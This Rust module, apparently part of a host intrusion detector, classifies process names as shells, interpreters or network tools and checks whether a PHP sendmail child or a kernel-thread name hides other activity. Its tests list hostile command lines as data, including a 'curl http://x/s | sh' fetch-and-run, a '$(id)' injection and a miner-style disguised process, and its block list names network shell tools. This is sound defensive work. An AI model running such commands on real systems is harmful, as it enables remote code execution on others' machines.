//! What kind of program a process runs, from its executable's name, and two shapes
//! of command line that matter: a kernel-thread disguise (`[kworker/0:1]`) and the
//! `sh -c /usr/sbin/sendmail …` child that PHP's `mail()` starts.

/// A program a web or database account has no business running.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Program {
    Shell,
    Interpreter,
    /// A downloader or raw network tool.
    NetTool,
}

impl Program {
    pub fn describe(self) -> &'static str {
        match self {
            Program::Shell => "a shell",
            Program::Interpreter => "a script interpreter",
            Program::NetTool => "a download or network tool",
        }
    }
}

const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "pdksh", "csh", "tcsh", "fish", "ash", "busybox",
];
/// Not `php`: running PHP is what a web account is for.
const INTERPRETERS: &[&str] = &["perl", "python", "ruby", "lua", "luajit", "node", "nodejs"];
const NET_TOOLS: &[&str] = &[
    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "tftp", "ftp",
];

/// The last component of a path.
pub(super) fn base_name(path: &[u8]) -> &[u8] {
    path.rsplit(|&b| b == b'/').next().unwrap_or(path)
}

/// The kind of program a path or name is, ignoring versions and variants
/// (`python3.11`, `perl5.36.0`, `ksh93`, `nc.openbsd`).
pub(super) fn classify(path: &[u8]) -> Option<Program> {
    let base = base_name(path);
    let stem = base.split(|&b| b == b'.').next().unwrap_or(base);
    let end = stem
        .iter()
        .rposition(|b| !b.is_ascii_digit())
        .map_or(0, |i| i + 1);
    let name = std::str::from_utf8(stem.get(..end)?).ok()?;
    if SHELLS.contains(&name) {
        Some(Program::Shell)
    } else if INTERPRETERS.contains(&name) {
        Some(Program::Interpreter)
    } else if NET_TOOLS.contains(&name) {
        Some(Program::NetTool)
    } else {
        None
    }
}

/// Where PHP's `sendmail_path` points on the systems breachkit knows.
const SENDMAIL_PATHS: &[&[u8]] = &[
    b"/usr/sbin/sendmail",
    b"/usr/lib/sendmail",
    b"/usr/bin/sendmail",
];
/// Characters that would let a `sh -c` command do more than run sendmail.
const SHELL_SYNTAX: &[u8] = b";|&`$<>(){}\n\\";

/// The child PHP's `mail()` starts: `sh -c "/usr/sbin/sendmail -t -i …"`, one plain
/// sendmail command with nothing chained to it.
pub(super) fn is_php_mail_child(argv: &[Vec<u8>]) -> bool {
    let [_, flag, command] = argv else {
        return false;
    };
    flag == b"-c"
        && SENDMAIL_PATHS.iter().any(|path| {
            command
                .strip_prefix(*path)
                .is_some_and(|rest| matches!(rest.first(), None | Some(b' ')))
        })
        && !command.iter().any(|b| SHELL_SYNTAX.contains(b))
}

/// Whether `argv[0]` is shaped like a kernel thread's name as `ps` shows it:
/// `[kworker/0:1]`, `[ksoftirqd/0]` (trailing blanks from a rewritten title ignored).
pub(super) fn looks_like_kernel_thread(argv: &[Vec<u8>]) -> bool {
    argv.first().is_some_and(|arg0| {
        let name = arg0.trim_ascii();
        name.len() > 2 && name.starts_with(b"[") && name.ends_with(b"]")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(args: &[&str]) -> Vec<Vec<u8>> {
        args.iter().map(|a| a.as_bytes().to_vec()).collect()
    }

    #[test]
    fn programs_are_classified_by_name() {
        for (name, kind) in [
            ("/usr/bin/dash", Some(Program::Shell)),
            ("/bin/bash", Some(Program::Shell)),
            ("/usr/bin/ksh93", Some(Program::Shell)),
            ("/bin/busybox", Some(Program::Shell)),
            ("/usr/bin/python3.11", Some(Program::Interpreter)),
            ("/usr/bin/perl5.36.0", Some(Program::Interpreter)),
            ("/usr/bin/lua5.4", Some(Program::Interpreter)),
            ("node", Some(Program::Interpreter)),
            ("/bin/nc.openbsd", Some(Program::NetTool)),
            ("/usr/bin/curl", Some(Program::NetTool)),
            ("/usr/bin/php8.2", None),
            ("/usr/sbin/php-fpm8.2", None),
            ("/usr/sbin/apache2", None),
            ("/usr/bin/ssh", None),
            ("/usr/lib/openssh/sftp-server", None),
            ("/usr/bin/fish-shell", None),
            ("/opt/.sh", None),
        ] {
            assert_eq!(classify(name.as_bytes()), kind, "{name}");
        }
    }

    #[test]
    fn only_a_plain_sendmail_child_is_php_mail() {
        assert!(is_php_mail_child(&argv(&[
            "sh",
            "-c",
            "/usr/sbin/sendmail -t -i"
        ])));
        assert!(is_php_mail_child(&argv(&[
            "sh",
            "-c",
            "/usr/sbin/sendmail -t -i -f'wp@example.org'"
        ])));
        assert!(is_php_mail_child(&argv(&[
            "/bin/sh",
            "-c",
            "/usr/lib/sendmail"
        ])));
        for other in [
            &["sh", "-c", "/usr/sbin/sendmail -t -i; curl http://x/s | sh"][..],
            &["sh", "-c", "/usr/sbin/sendmail $(id)"],
            &["sh", "-c", "/usr/sbin/sendmailer"],
            &["sh", "-c", "/tmp/sendmail"],
            &["sh", "-c", "sendmail -t", "x"],
            &["sh", "-i", "/usr/sbin/sendmail"],
            &["sh"],
        ] {
            assert!(!is_php_mail_child(&argv(other)), "{other:?}");
        }
    }

    #[test]
    fn kernel_thread_names_have_brackets() {
        assert!(looks_like_kernel_thread(&argv(&["[kworker/0:1]"])));
        assert!(looks_like_kernel_thread(&argv(&["[ksoftirqd/0]   ", ""])));
        assert!(looks_like_kernel_thread(&argv(&[
            "[kthreadd]",
            "-o",
            "pool:3333"
        ])));
        assert!(!looks_like_kernel_thread(&argv(&["kworker/0:1"])));
        assert!(!looks_like_kernel_thread(&argv(&["[]"])));
        assert!(!looks_like_kernel_thread(&argv(&["nginx: worker process"])));
        assert!(!looks_like_kernel_thread(&argv(&["sh", "[x]"])));
        assert!(!looks_like_kernel_thread(&[]));
    }
}
